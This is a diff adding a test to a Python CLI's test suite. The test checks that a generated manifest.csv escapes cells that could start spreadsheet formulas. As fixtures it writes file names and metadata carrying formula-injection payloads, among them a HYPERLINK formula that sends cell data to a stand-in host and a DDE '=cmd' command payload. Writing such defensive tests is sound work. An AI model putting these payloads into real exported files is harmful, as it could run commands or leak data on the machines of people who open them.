@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import io
 import json
@@ -218,3 +219,30 @@ def test_a_different_job_in_the_same_folder_is_refused(
     )
     assert forced.returncode == 0, forced.stderr
     shutil.rmtree(tmp_path / "data")
+
+
+def test_8_no_manifest_cell_is_a_spreadsheet_formula(tmp_path: Path) -> None:
+    """Keys, locations and urls come from the dataset; in the manifest none may start a formula
+    (=, +, -, @, tab, CR), while results/ keep every value exactly."""
+    folder = tmp_path / "data"
+    folder.mkdir()
+    names = ['=HYPERLINK("x.example?"&B2).jpg', "+1.jpg", "-2.jpg", "@SUM(1).jpg", "\tt.jpg"]
+    blobs = []
+    for n, name in enumerate(names):
+        buf = io.BytesIO()
+        Image.new("RGB", (64, 48), (n * 40, 90, 200 - n * 30)).save(buf, "JPEG")
+        blobs.append(buf.getvalue())
+        (folder / name).write_bytes(blobs[-1])
+        url = {"url": f"=cmd|' /C calc'!A{n}"}
+        (folder / name).with_suffix(".json").write_text(json.dumps(url))
+    known = tmp_path / "known.txt"
+    known.write_text("".join(f"md5 {hashlib.md5(b).hexdigest()}\n" for b in blobs))
+    result = run_cli("scan", str(folder), "--list", str(known), "--out", str(tmp_path / "scan"))
+    assert result.returncode == 0, result.stderr
+    with open(tmp_path / "scan" / "manifest.csv", newline="") as f:
+        manifest = list(csv.DictReader(f))
+    assert len(manifest) == len(names)
+    cells = [cell for row in manifest for cell in row.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert sorted(row["key"] for row in manifest) == sorted(f"'{n}" for n in names)
+    assert {r["key"] for r in all_rows(tmp_path / "scan")} == set(names)
